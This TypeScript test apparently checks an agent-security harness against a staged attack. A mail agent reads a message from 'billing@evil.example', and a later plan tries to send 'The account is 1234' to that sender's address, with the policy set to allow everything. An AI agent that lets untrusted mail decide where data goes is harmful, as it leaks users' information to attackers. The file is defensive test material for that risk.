// The first attack, put off: mail from a third party is read by one request, and a later one makes the address
// in it the recipient of what it sends. third-party-address.test.ts bundles this file from sources in which
// checks are missing.

import { compileWithHandles } from '../../activities/read-handles.ts'
import { compileSource } from '../../plan/compile.ts'
import type { Decide } from '../../plan/policy.ts'
import { catalogue } from '../notary/catalogue.ts'
import { createHarness, type Harness } from '../notary/harness.ts'
import type { Answers } from './third-party-address.ts'

const reading = `
version: 1
goal: see who has written
steps: [{ id: inbox, agent: mail, action: list, args: { folder: inbox } }]
answer: { from: [inbox] }
`
const handle = 'r-0/inbox/0'
const source = `
version: 1
goal: answer whoever wrote last
steps:
  - id: answer
    agent: mail
    action: send
    args: { to: [{ $handle: ${handle}, pointer: /first/from }], subject: Re, body: The account is 1234 }
answer: { from: [answer] }
`
const attacker = 'billing@evil.example'
const message = { id: 'm1', from: attacker, subject: 'Invoice', text: 'see above' }

/** Every rule of the policy allows it: what refuses here is the flow. */
const decide: Decide = () => ({ verdict: 'allow', rules: ['anything'] })

export async function attempt(): Promise<Answers> {
  const given = { kind: 'plan', source, inputs: {}, catalogue, decide } as const
  const checked = compileSource({ ...given, handles: 'later' })
  const check = checked.ok ? 'ok' : checked.issues.map(({ code }) => code).join(' ')
  const harness = await createHarness({ catalogue, decide })
  try {
    await harness.boot({ agent: 'mail', bootEpoch: 'epoch-0002' })
    const earlier = await harness.run(reading, { requestId: 'r-0' })
    const inbox = { first: message, messages: [message], count: 1 }
    const read = await earlier.perform('inbox', { folder: 'inbox' }, inbox)
    return { check, ...(await answer(harness, { ...read, step: handle })) }
  } finally {
    await harness.close()
  }
}

async function answer(
  { notary }: Harness,
  read: Awaited<ReturnType<Awaited<ReturnType<Harness['run']>>['perform']>>,
): Promise<Omit<Answers, 'check'>> {
  const requestId = 'r-1'
  const call = { requestId, kind: 'plan', name: 'test', source, inputs: {}, priority: 'MEDIUM' }
  const registered = await notary.request('cli', call)
  if (registered.status !== 'REGISTERED') {
    return { request: registered.code, told: registered.issues?.[0] }
  }
  const compiled = await compileWithHandles(
    (handles) => compileSource({ kind: 'plan', source, inputs: {}, catalogue, decide, handles }),
    requestId,
    { admit: (asked) => notary.admit('worker', asked) },
  )
  if (!compiled.ok) return { request: registered.status }
  const { plan, digest } = compiled
  const admitted = await notary.admit('worker', { requestId, plan })
  if (admitted.status === 'REFUSED') {
    return { request: registered.status, admit: admitted.code, told: admitted.message }
  }
  const reply = await notary.authorize('worker', {
    ...{ requestId, planDigest: digest, kind: 'do', op: 'run', step: 'answer', iteration: 0 },
    args: { to: [attacker], subject: 'Re', body: 'The account is 1234' },
    sources: [read],
  })
  const before = { request: registered.status, admit: admitted.status }
  return reply.status === 'DENIED'
    ? { ...before, authorize: reply.code, told: reply.rules }
    : { ...before, authorize: reply.status }
}
